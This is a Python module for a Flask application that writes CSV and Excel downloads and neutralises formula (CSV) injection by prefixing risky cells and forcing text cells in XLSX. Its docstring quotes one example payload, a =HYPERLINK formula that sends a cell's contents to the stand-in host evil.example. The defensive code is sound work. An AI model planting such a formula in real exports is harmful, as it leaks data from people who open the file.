"""Spreadsheet downloads (CSV and Excel): the one place where export cells are written.

Department, team and survey names, round labels and titles are typed by people; a name such as
``=HYPERLINK("http://evil.example/?d="&D2,"x")`` must never become a live formula in the
spreadsheet program of whoever opens an export (CSV or formula injection). Every CSV and XLSX
download goes through this module:

- CSV: a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
  leading apostrophe (:func:`neutralise`, as OWASP recommends); the csv module quotes the rest.
- XLSX: every text cell is written as a string cell with Excel's quote prefix, never as a
  formula, and keeps its exact text.

Numbers stay numbers (also negative ones): only text is ever changed.

An :class:`Export` (a title, typed columns, rows, the filter used) is written for German Excel and
LibreOffice by :func:`export_response`: CSV with ``;``, a UTF-8 BOM, decimal comma and dates as
``TT.MM.JJJJ`` (in English: decimal point, ``YYYY-MM-DD``), headers in the downloading person's
language with the unit in brackets, and an info block (title, organisation, filter, date) before
the table; XLSX with real numbers and dates in number formats, a bold frozen header row, column
widths and an info sheet. The file name carries the filter and the date.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime
from urllib.parse import quote

from flask import Response, current_app, has_request_context
from flask_babel import get_locale
from flask_babel import gettext as _

# The characters that make a spreadsheet program read a cell as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Characters XML 1.0 cannot hold; openpyxl refuses them, so they are dropped from XLSX cells.
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")

CSV_MIMETYPE = "text/csv"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

Row = Sequence[object]


def neutralise(value: object) -> object:
    """The value as a CSV cell no spreadsheet program evaluates: text that could start a formula gets an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


@dataclass
class Sheet:
    """One worksheet of an Excel export: its rows (the header first, bold if ``header``), column widths."""

    title: str
    rows: Iterable[Row]
    header: bool = True
    widths: Sequence[int] = field(default_factory=tuple)
    # An Excel number format per column (None: general); a :class:`Typed` cell brings its own.
    formats: Sequence[str | None] = field(default_factory=tuple)


def csv_bytes(rows: Iterable[Row], delimiter: str = ";") -> bytes:
    """UTF-8 with BOM (so spreadsheet programs read the umlauts); None is an empty cell."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    for row in rows:
        writer.writerow(["" if value is None else neutralise(value) for value in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def xlsx_text(value: str) -> str:
    """Text as an XLSX cell holds it: without characters XML cannot hold, line breaks as LF (XML reads CR so)."""
    return _NOT_IN_XML.sub("", value.replace("\r\n", "\n").replace("\r", "\n"))


def xlsx_bytes(sheets: Sequence[Sheet]) -> bytes:
    """A workbook with the given sheets; text is always a string cell, never a formula."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    workbook = Workbook(write_only=True)
    bold = Font(bold=True)
    for sheet in sheets:
        worksheet = workbook.create_sheet(sheet.title[:31])
        for number, width in enumerate(sheet.widths, start=1):
            worksheet.column_dimensions[get_column_letter(number)].width = width
        if sheet.header:
            worksheet.freeze_panes = "A2"
        for index, row in enumerate(sheet.rows):
            cells = []
            for value in row:
                number_format = None
                if isinstance(value, Typed):  # unwrapped first: typed text is still only text
                    value, number_format = value.value, xlsx_format(value.kind, value.digits)
                elif index > 0 or not sheet.header:
                    number_format = sheet.formats[len(cells)] if len(cells) < len(sheet.formats) else None
                if isinstance(value, str):
                    cell = WriteOnlyCell(worksheet, xlsx_text(value))
                    cell.data_type = "s"  # openpyxl would store text starting with "=" as a formula
                    cell.quotePrefix = True  # and Excel keeps it text when the cell is edited
                else:
                    if isinstance(value, datetime) and value.tzinfo is not None:
                        value = value.replace(tzinfo=None)  # Excel knows no time zones: local time as shown
                    cell = WriteOnlyCell(worksheet, value)
                    if number_format and value is not None:
                        cell.number_format = number_format
                if index == 0 and sheet.header:
                    cell.font = bold
                cells.append(cell)
            worksheet.append(cells)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def download(content: bytes, filename: str) -> Response:
    """The file as an attachment; its type follows from the file name's extension (.csv or .xlsx).

    The content type is set whole, once: ``text/csv; charset=utf-8`` (the charset named once only).
    """
    content_type = CSV_CONTENT_TYPE if filename.endswith(".csv") else XLSX_MIMETYPE
    response = Response(content, headers={"Content-Disposition": f'attachment; filename="{quote(filename)}"'})
    response.headers["Content-Type"] = content_type
    return response


def csv_response(rows: Iterable[Row], filename: str, delimiter: str = ";") -> Response:
    return download(csv_bytes(rows, delimiter), filename)


def xlsx_response(sheets: Sequence[Sheet], filename: str) -> Response:
    return download(xlsx_bytes(sheets), filename)


# Exports for people: typed columns, the reader's language, German Excel ------------------------------------

KINDS = ("text", "int", "decimal", "percent", "date", "datetime", "yesno")


@dataclass(frozen=True)
class Column:
    """A column of an export: its header (in the reader's language, with the unit) and how its values read.

    ``kind``: text, int, decimal (``digits`` places), percent (a number of percent points, 0–100,
    with ``digits`` places), date, datetime, yesno (True/False as Ja/Nein).
    """

    label: str
    kind: str = "text"
    digits: int = 1
    width: int | None = None


@dataclass(frozen=True)
class Typed:
    """One cell whose kind differs from its column's (a long table of figures of several units)."""

    value: object
    kind: str = "decimal"
    digits: int = 1


@dataclass
class Export:
    """A table to download: title, columns, rows, and what it shows (filters, notes) for the info block."""

    title: str
    name: str  # the file name's start, e.g. "programm-dashboard"
    columns: Sequence[Column]
    rows: Sequence[Row]
    filters: Sequence[tuple[str, str]] = ()  # (what, chosen value), e.g. ("Rollout-Phase", "Alle Phasen")
    notes: Sequence[str] = ()
    as_of: date | None = None  # the day the figures describe, if not today
    organisation: str = ""
    created: datetime | None = None


def _locale() -> str:
    if has_request_context():
        return str(get_locale() or "de")
    return "de"


def xlsx_format(kind: str, digits: int = 1, locale: str | None = None) -> str | None:
    """Excel's number format for a kind of value; dates read as TT.MM.JJJJ (German) or YYYY-MM-DD."""
    places = "0" + ("." + "0" * digits if digits else "")
    german = (locale or _locale()) == "de"
    return {"int": "0", "decimal": places, "percent": places + '" %"',
            "date": "DD.MM.YYYY" if german else "YYYY-MM-DD",
            "datetime": "DD.MM.YYYY HH:MM" if german else "YYYY-MM-DD HH:MM"}.get(kind)


def _yes_no(value: object) -> object:
    return None if value is None else (_("Yes") if value else _("No"))


def csv_text(value: object, kind: str = "text", digits: int = 1, locale: str | None = None) -> object:
    """A value as German Excel reads it from CSV: decimal comma, dates TT.MM.JJJJ; text stays (neutralised later)."""
    if isinstance(value, Typed):
        value, kind, digits = value.value, value.kind, value.digits
    if value is None:
        return None
    german = (locale or _locale()) == "de"
    if kind == "yesno" or isinstance(value, bool):
        return _yes_no(value)
    if isinstance(value, datetime):
        return value.strftime("%d.%m.%Y %H:%M" if german else "%Y-%m-%d %H:%M")
    if isinstance(value, date):
        return value.strftime("%d.%m.%Y" if german else "%Y-%m-%d")
    if isinstance(value, int | float) and kind in ("int", "decimal", "percent"):
        text = str(round(value)) if kind == "int" else f"{value:.{digits}f}"
        return _NumberText(text.replace(".", ",") if german else text)
    if isinstance(value, int | float):
        return _NumberText(str(value).replace(".", ",") if german else str(value))
    return value


class _NumberText(str):
    """A number written as text for CSV: never neutralised (a negative number is no formula)."""


def _cell_for_csv(value: object) -> object:
    if value is None:
        return ""
    if isinstance(value, _NumberText):
        return str(value)
    return neutralise(value)


def _info_rows(export: Export) -> list[list[object]]:
    created = export.created or _now()
    rows: list[list[object]] = [[export.title]]
    if export.organisation:
        rows.append([_("Organisation"), export.organisation])
    rows += [[what, value] for what, value in export.filters]
    if export.as_of is not None:
        rows.append([_("Figures as of"), export.as_of])
    rows.append([_("Created on"), created])
    rows += [[_("Note"), note] for note in export.notes]
    return rows


def _now() -> datetime:
    from zoneinfo import ZoneInfo

    zone = ZoneInfo(current_app.config.get("TIMEZONE", "Europe/Berlin")) if has_request_context() else None
    return datetime.now(zone).replace(tzinfo=None, second=0, microsecond=0)


def export_csv(export: Export) -> bytes:
    """``;``-separated CSV with BOM: the info block, an empty line, the header, the rows."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";")
    for row in _info_rows(export):
        writer.writerow([_cell_for_csv(csv_text(value)) for value in row])
    writer.writerow([])
    writer.writerow([_cell_for_csv(column.label) for column in export.columns])
    for row in export.rows:
        writer.writerow([_cell_for_csv(csv_text(value, column.kind, column.digits))
                         for value, column in zip(row, export.columns, strict=True)])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def _width(column: Column, rows: Sequence[Row], index: int) -> int:
    if column.width:
        return column.width
    longest = len(column.label)
    for row in rows[:500]:
        value = row[index]
        text = csv_text(value, column.kind, column.digits)
        longest = max(longest, len(str(text)) if text is not None else 0)
    return max(8, min(50, longest + 2))


def export_xlsx(export: Export) -> bytes:
    """The table on a sheet with a frozen header row, number formats and widths, then a localised info sheet."""
    rows = [list(row) for row in export.rows]
    for row in rows:
        for index, (value, column) in enumerate(zip(row, export.columns, strict=True)):
            if column.kind == "yesno" or isinstance(value, bool):
                row[index] = _yes_no(value)
    table = Sheet(_("Data"), [[c.label for c in export.columns], *rows],
                  widths=[_width(c, export.rows, i) for i, c in enumerate(export.columns)],
                  formats=[xlsx_format(c.kind, c.digits) for c in export.columns])
    info = _info_rows(export)
    about = Sheet(_("Information"), info, header=False, widths=(28, 80),
                  formats=(None, xlsx_format("date")))
    for row in info:  # the creation time reads with its hour
        if len(row) > 1 and isinstance(row[1], datetime):
            row[1] = Typed(row[1], "datetime")
    return xlsx_bytes([table, about])


def slug(text: str) -> str:
    """A file-name part: lower case, umlauts spelt out, anything else a hyphen."""
    text = text.lower()
    for letter, spelt in (("ä", "ae"), ("ö", "oe"), ("ü", "ue"), ("ß", "ss")):
        text = text.replace(letter, spelt)
    return re.sub(r"[^a-z0-9]+", "-", text).strip("-")[:60]


def export_filename(export: Export, fmt: str) -> str:
    """``<name>_<filter values>_<YYYY-MM-DD>.<fmt>``: the filter and the date a download was made."""
    day = (export.created or _now()).date()
    parts = [slug(export.name)] + [slug(value) for _what, value in export.filters if slug(value)]
    return "_".join([*parts, day.isoformat()]) + f".{fmt}"


def export_response(export: Export, fmt: str) -> Response:
    """The export as a CSV or XLSX download."""
    if export.created is None:
        export.created = _now()
    content = export_csv(export) if fmt == "csv" else export_xlsx(export)
    return download(content, export_filename(export, fmt))
